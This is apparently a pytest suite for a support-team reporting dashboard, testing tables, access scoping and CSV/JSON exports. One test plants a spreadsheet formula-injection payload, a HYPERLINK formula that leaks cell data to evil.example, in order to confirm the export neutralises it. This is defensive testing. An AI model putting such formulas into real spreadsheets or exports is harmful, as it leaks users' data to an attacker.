"""The lead dashboard at /reports/: tables of the summary, scoped like the API."""

from datetime import date

import pytest

from reporting.rollup import inbox_day_rollup
from tests.factories import make_inbox, make_user

from .conftest import ams

pytestmark = [pytest.mark.django_db, pytest.mark.smoke]


def test_a_lead_reads_the_figures_as_tables(client, timeline):
    inbox = make_inbox("whatsapp", name="Shop WhatsApp")
    anna = make_user("anna", inboxes=[inbox])
    chat = timeline(inbox).created(ams(2026, 3, 31, 10, 0))
    chat.customer(ams(2026, 3, 31, 10, 0))
    chat.agent(ams(2026, 3, 31, 10, 4, 10), anna)
    inbox_day_rollup(inbox=inbox, day=date(2026, 3, 31), now=ams(2026, 4, 1, 0, 0))
    client.force_login(make_user("lea", role="lead"))
    response = client.get("/reports/", {"period": "custom", "from": "2026-03-31", "to": "2026-03-31"})
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="report-agents"' in html and "anna" in html
    assert "4 m 10 s" in html  # the first response, median and in Anna's row
    assert "Shop WhatsApp" in html


def test_a_breach_links_to_its_conversation(client, timeline):
    inbox = make_inbox("whatsapp")
    chat = timeline(inbox).created(ams(2026, 3, 31, 10, 0))
    chat.customer(ams(2026, 3, 31, 10, 0))
    chat.agent(ams(2026, 3, 31, 11, 0), make_user("anna", inboxes=[inbox]))
    inbox_day_rollup(inbox=inbox, day=date(2026, 3, 31), now=ams(2026, 4, 1, 0, 0))
    client.force_login(make_user("lea", role="lead"))
    html = client.get("/reports/", {"period": "custom", "from": "2026-03-31", "to": "2026-03-31"}).content.decode()
    assert 'data-testid="report-breaches"' in html
    assert f'href="/?c={chat.conversation.pk}"' in html


def test_the_dashboard_defaults_to_seven_days_and_refuses_bad_dates(client):
    client.force_login(make_user("lea", role="lead"))
    assert client.get("/reports/").status_code == 200
    assert client.get("/reports/", {"period": "custom", "from": "nope", "to": "2026-03-31"}).status_code == 400


def test_an_agent_cannot_open_another_inboxs_report(client):
    theirs, other = make_inbox("whatsapp"), make_inbox("messenger")
    client.force_login(make_user("anna", inboxes=[theirs]))
    assert client.get("/reports/", {"period": "7d", "inbox": other.pk}).status_code == 404
    assert client.get("/reports/", {"period": "7d", "inbox": theirs.pk}).status_code == 200


def test_the_conversations_behind_the_figures_export_as_csv(client, timeline):
    import csv
    import io

    from reporting.services import survey_response_record

    inbox = make_inbox("whatsapp", name="Shop WhatsApp")
    anna = make_user("anna", inboxes=[inbox])
    chat = timeline(inbox, assignee=anna).created(ams(2026, 3, 31, 10, 0))
    chat.customer(ams(2026, 3, 31, 10, 0), "Top service, bedankt!")
    chat.agent(ams(2026, 3, 31, 10, 4, 10), anna)
    chat.status(ams(2026, 3, 31, 11, 0), "open", "resolved", actor=anna)
    chat.conversation.tags.create(name="compliment")
    survey_response_record(conversation=chat.conversation, kind="csat", score=5, at=ams(2026, 3, 31, 11, 5))
    inbox_day_rollup(inbox=inbox, day=date(2026, 3, 31), now=ams(2026, 4, 1, 0, 0))
    client.force_login(make_user("lea", role="lead"))
    params = {"period": "custom", "from": "2026-03-31", "to": "2026-03-31"}
    response = client.get("/reports/export/conversations.csv", params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    row = rows[0]
    assert (row["channel"], row["agent"], row["tags"], row["csat"], row["sentiment"]) == (
        "whatsapp",
        "anna",
        "compliment",
        "5",
        "positive",
    )
    assert float(row["first_response_seconds"]) == 250 and float(row["resolution_seconds"]) == 3600
    agents_csv = b"".join(client.get("/reports/export/agents.csv", params).streaming_content).decode()
    assert agents_csv.splitlines()[0].startswith("id,name,conversations,replies")
    assert client.get("/reports/export/nothing.csv", params).status_code == 404


def test_the_conversation_export_defuses_spreadsheet_formulas(client, timeline):
    import csv
    import io

    from tests.factories import make_contact

    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
    inbox = make_inbox("whatsapp", name="@SUM(A1)")
    chat = timeline(inbox, contact=make_contact(name=hyperlink)).created(ams(2026, 3, 31, 10, 0))
    chat.customer(ams(2026, 3, 31, 10, 0))
    chat.conversation.tags.create(name="+cmd")
    inbox_day_rollup(inbox=inbox, day=date(2026, 3, 31), now=ams(2026, 4, 1, 0, 0))
    client.force_login(make_user("lea", role="lead"))
    params = {"period": "custom", "from": "2026-03-31", "to": "2026-03-31"}
    response = client.get("/reports/export/conversations.csv", params)
    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert (row["contact"], row["inbox"], row["tags"]) == ("'" + hyperlink, "'@SUM(A1)", "'+cmd")
    assert row["conversation"] == str(chat.conversation.pk)
    volume = b"".join(client.get("/reports/export/volume.csv", params).streaming_content).decode()
    assert volume.splitlines()[1].startswith("whatsapp,1,1,0,")


def test_the_charts_get_their_series_as_json_and_as_tables(client, timeline):
    # given: two days; a 4-minute and a 50-minute first response; CSAT 4 and NPS 10 on day two
    from reporting.services import survey_response_record

    inbox = make_inbox("whatsapp", time_zone="Europe/Amsterdam")
    anna = make_user("anna", inboxes=[inbox])
    one = timeline(inbox).created(ams(2026, 3, 30, 10, 0))
    one.customer(ams(2026, 3, 30, 10, 0))
    one.agent(ams(2026, 3, 30, 10, 4), anna)
    two = timeline(inbox).created(ams(2026, 3, 31, 10, 0))
    two.customer(ams(2026, 3, 31, 10, 0))
    two.agent(ams(2026, 3, 31, 10, 50), anna)
    two.customer(ams(2026, 3, 31, 11, 0))
    survey_response_record(conversation=two.conversation, kind="csat", score=4, at=ams(2026, 3, 31, 12, 0))
    survey_response_record(conversation=two.conversation, kind="nps", score=10, at=ams(2026, 3, 31, 12, 0))
    for day in (date(2026, 3, 30), date(2026, 3, 31)):
        inbox_day_rollup(inbox=inbox, day=day, now=ams(2026, 4, 1, 0, 0))
    client.force_login(make_user("lea", role="lead"))
    # when
    response = client.get("/reports/", {"period": "custom", "from": "2026-03-30", "to": "2026-03-31"})
    # then
    charts = response.context["charts"]
    assert charts["days"] == ["30 Mar", "31 Mar"]  # as the reader writes a day
    assert charts["volume"] == {"whatsapp": [2, 3]}
    buckets = {b["label"]: b["count"] for b in charts["first_response"]}
    assert buckets["1–5 m"] == 1 and buckets["30–60 m"] == 1 and sum(buckets.values()) == 2
    assert charts["feedback"] == {"csat": [None, 4.0], "nps": [None, 100.0]}
    assert charts["service_level"] == {"whatsapp": 0.5}
    html = response.content.decode()
    assert '<script id="report-charts-data" type="application/json">' in html
    assert 'data-testid="table-volume-days"' in html and "<script>" not in html
